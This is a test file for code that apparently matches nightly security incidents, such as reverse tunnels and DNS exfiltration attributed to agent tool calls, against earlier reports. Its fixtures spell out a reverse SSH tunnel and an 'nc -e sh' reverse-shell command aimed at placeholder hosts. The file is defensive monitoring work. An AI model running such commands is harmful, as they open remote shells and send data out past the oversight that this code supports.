import { describe, expect, it } from 'vitest';
import { recurrenceOf } from '../../src/history/recurrence.ts';
import { traitsOf } from '../../src/history/traits.ts';

interface Facts {
  readonly category?: string;
  readonly domain?: string;
  readonly command?: string;
  readonly task?: string;
}

/** The records of a night with one incident. */
function night({
  category = 'reverse-tunnel',
  domain = 'a.example',
  command = 'ssh -R 1:127.0.0.1:2 ops@203.0.113.7',
  task = 't-1',
}: Facts): unknown[] {
  return [
    { record: 'run' },
    {
      record: 'attribution',
      id: 'v-1',
      violation: { dst: { ip: '203.0.113.7', domain } },
      episode: { id: 'e', task },
      toolCall: { command },
    },
    { record: 'incident', id: 'i-1', category, attributions: ['v-1'] },
  ];
}

const ask = (tonight: Facts, ...earlier: Facts[]): ReturnType<typeof recurrenceOf> => {
  const [traits] = traitsOf(night(tonight));
  if (traits === undefined) throw new Error('no incident');
  return recurrenceOf(
    traits,
    earlier.map((facts, i) => ({ report: `n${i}.json`, incidents: traitsOf(night(facts)) })),
  );
};

describe('an incident and earlier nights', () => {
  it.each<[string, Facts, string, readonly string[] | undefined]>([
    ['all alike', {}, 'seen-before', ['destination', 'command-shape', 'task']],
    [
      'another host in the command',
      { command: 'ssh -R 9:localhost:3 root@198.51.100.2' },
      'seen-before',
      ['destination', 'command-shape', 'task'],
    ],
    ['only the destination', { command: 'nc -e sh a.example 1', task: 't-2' }, 'seen-before', ['destination']],
    ['the same command in the same task', { domain: 'b.example' }, 'seen-before', ['command-shape', 'task']],
    ['the same command elsewhere', { domain: 'b.example', task: 't-2' }, 'similar', ['command-shape']],
    ['only the task', { domain: 'b.example', command: 'nc -e sh b.example 1' }, 'new', undefined],
    ['another category', { category: 'cryptomining' }, 'new', undefined],
  ])('%s', (_, earlier, answer, same) => {
    expect(ask({}, earlier)).toEqual({
      answer,
      earlier: same === undefined ? [] : [{ report: 'n0.json', incident: 'i-1', same }],
      reports: 1,
    });
  });

  it('best likeness first, then the order of the reports', () => {
    const found = ask({}, { domain: 'b.example', task: 't-2' }, {}, { command: 'x', task: 'u' }, {});
    expect(found.earlier.map(({ report }) => report)).toEqual(['n1.json', 'n3.json', 'n2.json', 'n0.json']);
  });

  it('knows a DNS channel by its parent domain: its names are new every time', () => {
    const tunnel = { category: 'dns-exfiltration', command: 'x', task: 'u' };
    expect(
      ask({ ...tunnel, domain: '4f2a.t.exfil.example' }, { ...tunnel, command: 'y', domain: '99ab.t.exfil.example' })
        .answer,
    ).toBe('seen-before');
  });

  it('compares what an older version wrote as far as it goes', () => {
    const [traits] = traitsOf([
      { record: 'incident', id: 'i-1', category: 'x', attributions: ['v-gone'] },
      'junk',
      null,
    ]);
    expect(traits).toMatchObject({ incident: 'i-1', destinations: new Set() });
  });
});
